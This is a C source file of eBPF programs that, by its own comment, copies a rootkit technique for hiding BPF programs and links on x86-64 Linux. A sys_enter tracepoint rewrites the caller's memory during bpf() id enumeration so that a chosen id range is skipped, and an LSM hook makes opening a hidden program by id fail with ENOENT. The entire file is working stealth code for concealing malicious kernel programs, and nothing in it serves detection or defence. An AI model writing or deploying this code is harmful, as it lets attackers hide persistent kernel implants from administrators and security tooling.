// Hides BPF programs and links from the lists of ids, as the rootkits of 2025 do: it moves where the caller's list goes
// on. `hide_program` hides programs from those who open them by their ids, too.
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>

char LICENSE[] SEC("license") = "GPL";

enum { SYS_BPF = 321, PROG_GET_NEXT_ID = 11, LINK_GET_NEXT_ID = 31 };

/* The first and the last id: of programs, then of links. */
volatile unsigned int hidden[4];

/* The beginning of struct pt_regs of x86-64. */
struct registers {
	unsigned long r15, r14, r13, r12, bp, bx, r11, r10, r9, r8, ax, cx, dx, si, di;
};

SEC("raw_tp/sys_enter")
int hide_ids(struct bpf_raw_tracepoint_args *ctx)
{
	const struct registers *registers = (const void *)ctx->args[0];
	unsigned long command = 0, attr = 0;
	unsigned int start = 0, first, last;

	if (ctx->args[1] != SYS_BPF)
		return 0;
	bpf_probe_read_kernel(&command, sizeof(command), &registers->di);
	bpf_probe_read_kernel(&attr, sizeof(attr), &registers->si);
	if ((unsigned int)command == PROG_GET_NEXT_ID) {
		first = hidden[0];
		last = hidden[1];
	} else if ((unsigned int)command == LINK_GET_NEXT_ID) {
		first = hidden[2];
		last = hidden[3];
	} else {
		return 0;
	}
	bpf_probe_read_user(&start, sizeof(start), (void *)attr);
	if (start + 1 >= first && start < last)
		bpf_probe_write_user((void *)attr, &last, sizeof(last));
	return 0;
}

struct bpf_prog_aux {
	unsigned int id;
} __attribute__((preserve_access_index));

struct bpf_prog {
	struct bpf_prog_aux *aux;
} __attribute__((preserve_access_index));

SEC("lsm/bpf_prog")
int BPF_PROG(hide_program, struct bpf_prog *prog)
{
	unsigned int id = prog->aux->id;

	return id >= hidden[0] && id <= hidden[1] ? -2 /* ENOENT */ : 0;
}
